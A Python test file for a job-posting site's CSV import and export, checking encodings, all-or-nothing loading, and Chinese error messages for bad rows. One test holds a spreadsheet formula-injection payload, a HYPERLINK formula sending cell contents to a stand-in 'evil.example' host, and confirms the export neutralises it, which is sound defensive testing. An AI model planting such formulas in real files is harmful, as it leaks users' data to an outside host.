"""CSV import of postings: all rows or none, each bad row's line and reason, update by ref,
and an export that imports back unchanged."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from sqlalchemy import select

from core import csvio
from core.booking.models import TOWNS
from core.csvio import CsvImportError
from core.jobs import csv_io as job_csv
from core.jobs.models import CLOSED, JobPosting
from tests.jobs.conftest import NOW

HEADER = (
    "ref,employer,title,town,industry,pay_min,pay_max,requirements,how_to_apply,"
    "veterans_priority,valid_until\n"
)
GOOD = "R-1,测试物流公司,仓库管理员,江桥镇,物流运输,5500,7000,会用电脑,到站登记,1,2026-12-31\n"


def postings(session):
    return list(session.scalars(select(JobPosting).order_by(JobPosting.id)))


def test_a_file_with_bom_and_a_multiline_field_loads(db_session):
    text = (
        "\ufeff"
        + HEADER
        + GOOD
        + ',测试保安公司,保安员,南翔镇,物业保安,,,"身体健康\n能轮班",电话联系,0,2026-12-20\n'
    )
    result = job_csv.import_csv(db_session, text, NOW)
    assert (result.added, result.updated) == (2, 0)
    first, second = postings(db_session)
    assert first.ref == "R-1"
    assert first.veterans_priority
    assert first.pay_max == 7000
    assert second.requirements == "身体健康\n能轮班"
    assert second.pay_min is None
    assert second.ref == f"JP-{second.id:06d}"


def test_bad_rows_load_nothing_and_each_is_named_with_its_line(db_session):
    text = (
        HEADER
        + GOOD
        + "R-2,,保安员,南翔镇,物业保安,5000,6000,,,0,2026-12-20\n"
        + 'R-3,测试公司,"厨师\n（两行）",浦东新区,餐饮住宿,7000,6000,,,0,2026-11-01\n'
        + "R-4,测试公司,厨师,南翔镇,餐饮住宿,,,,,0,2026-12-20\n"
    )
    with pytest.raises(CsvImportError) as caught:
        job_csv.import_csv(db_session, text, NOW)
    assert caught.value.problems == [
        "第 3 行 employer 列（用人单位）为空：请填写用人单位。",
        "第 4 行 town 列（街镇）的“浦东新区”：请从嘉定区的街镇中选择（" + "、".join(TOWNS) + "）。",
        "第 4 行 pay_max 列（月薪上限）的“6000”：月薪上限不能低于下限。",
        "第 4 行 valid_until 列（有效期至）的“2026-11-01”：有效期不能早于今天。",
    ]
    assert postings(db_session) == []


def test_a_missing_column_or_an_empty_file_is_refused(db_session):
    with pytest.raises(CsvImportError) as caught:
        job_csv.import_csv(db_session, "ref,employer,title\nR-1,公司,岗位\n", NOW)
    assert "缺少列 town, industry, valid_until" in caught.value.problems[0]
    with pytest.raises(CsvImportError) as caught:
        job_csv.import_csv(db_session, HEADER, NOW)
    assert caught.value.problems == ["文件中没有岗位数据。"]


def test_a_reference_twice_in_one_file_is_refused(db_session):
    with pytest.raises(CsvImportError) as caught:
        job_csv.import_csv(db_session, HEADER + GOOD + GOOD, NOW)
    assert caught.value.problems == [
        "第 3 行 ref 列（编号）的“R-1”：编号在文件中重复（第 2 行已有）"
    ]


def test_a_known_reference_updates_and_keeps_the_status(db_session, factories):
    factories.job_posting(ref="R-1", title="旧名称", status=CLOSED)
    result = job_csv.import_csv(db_session, HEADER + GOOD, NOW)
    assert (result.added, result.updated) == (0, 1)
    [posting] = postings(db_session)
    assert posting.title == "仓库管理员"
    assert posting.status == CLOSED


def test_gbk_files_from_excel_are_read():
    data = (HEADER + GOOD).encode("gb18030")
    assert csvio.decode(data) == HEADER + GOOD
    assert csvio.decode(b"\xef\xbb\xbf" + GOOD.encode()) == GOOD


def test_an_export_imports_back_unchanged_even_with_expired_postings(db_session, factories):
    factories.job_posting(ref="OLD-1", valid_until=date(2026, 11, 1), status=CLOSED)
    factories.job_posting(pay_min=None, pay_max=None, requirements='带"引号", 和逗号')
    job_csv.import_csv(db_session, HEADER + GOOD, NOW)
    db_session.commit()
    exported = job_csv.export_csv(db_session)
    assert exported.splitlines()[0] == HEADER.strip()
    result = job_csv.import_csv(db_session, exported, NOW)
    assert (result.added, result.updated) == (0, 3)
    assert job_csv.export_csv(db_session) == exported


# --- attacks and bad values (issue 16 item 6-7, issue 14 item 7) --------------------------------


def test_an_export_neutralises_formulas_and_imports_back_unchanged(db_session, factories):
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看详情")'
    factories.job_posting(
        ref="F-1", employer=attack, title="@SUM(1+1)", requirements="-1+2", how_to_apply="+86 21"
    )
    exported = job_csv.export_csv(db_session)
    [row] = list(csv.DictReader(io.StringIO(exported)))
    # Excel would run these; every one is written as text.
    assert row["employer"] == "'" + attack
    assert row["title"] == "'@SUM(1+1)"
    assert row["requirements"] == "'-1+2"
    assert row["how_to_apply"] == "'+86 21"
    result = job_csv.import_csv(db_session, exported, NOW)
    assert (result.added, result.updated) == (0, 1)
    [posting] = postings(db_session)
    assert (posting.employer, posting.title) == (attack, "@SUM(1+1)")
    assert (posting.requirements, posting.how_to_apply) == ("-1+2", "+86 21")
    assert job_csv.export_csv(db_session) == exported


def test_every_bad_value_is_quoted_as_written(db_session):
    text = (
        HEADER
        + "R-1,测试物流公司,仓库管理员,浦东新区,物流运输,八千,,,,1,2026/13/01\n"
        + "R-2,"
        + "很长的单位名称" * 20
        + ",保安员,南翔镇,物业保安,²,,,,0,2026-12-20\n"
    )
    with pytest.raises(CsvImportError) as caught:
        job_csv.import_csv(db_session, text, NOW)
    problems = caught.value.problems
    assert problems[0].startswith("第 2 行 town 列（街镇）的“浦东新区”：请从嘉定区的街镇中选择")
    assert problems[1:3] == [
        "第 2 行 pay_min 列（月薪下限）的“八千”：请填写不小于 0 的整数（元/月），不清楚可留空。",
        "第 2 行 valid_until 列（有效期至）的“2026/13/01”：请填写日期，如 2026-12-31。",
    ]
    assert problems[3] == (
        "第 3 行 employer 列（用人单位）的“"
        + ("很长的单位名称" * 5)[:30]
        + "…（共 140 个字符）”：用人单位不超过 100 个字。"
    )
    assert problems[4] == (
        "第 3 行 pay_min 列（月薪下限）的“²”：请填写不小于 0 的整数（元/月），不清楚可留空。"
    )
    assert postings(db_session) == []


def test_a_short_row_is_named_and_nothing_is_imported(db_session):
    text = HEADER + GOOD + "R-2,测试公司,保安员,南翔镇\n"
    with pytest.raises(CsvImportError) as caught:
        job_csv.import_csv(db_session, text, NOW)
    assert caught.value.problems == [
        "第 3 行：有 4 列，第一行的列名有 11 列；请检查是否少了或多了逗号，或引号没有成对。"
    ]
    assert postings(db_session) == []


def test_pay_typed_with_fullwidth_digits_is_read():
    [values] = job_csv.parse_csv(HEADER + GOOD.replace("5500", "５５００"), NOW)
    assert values["pay_min"] == 5500


def test_more_rows_than_the_cap_are_refused_before_any_is_checked(db_session):
    limits = csvio.Limits(max_bytes=1024 * 1024, max_rows=2)
    rows = [GOOD.replace("R-1", f"R-{n}") for n in range(3)]
    assert len(job_csv.parse_csv(HEADER + "".join(rows[:2]), NOW, limits=limits)) == 2
    with pytest.raises(CsvImportError) as caught:
        job_csv.import_csv(db_session, HEADER + "".join(rows), NOW, limits)
    assert caught.value.problems == ["文件超过 2 行数据，请分批导入（每次最多 2 行）。"]
    assert postings(db_session) == []
